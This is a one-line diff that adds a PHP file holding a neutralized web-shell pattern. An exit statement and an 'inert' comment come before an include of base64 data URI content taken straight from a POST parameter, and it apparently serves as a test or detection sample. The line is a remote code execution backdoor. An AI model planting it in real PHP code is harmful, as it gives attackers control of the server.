@@ -1,0 +1,1 @@
+<?php exit; /* inert */ include "data:text/plain;base64,".$_POST["x"];
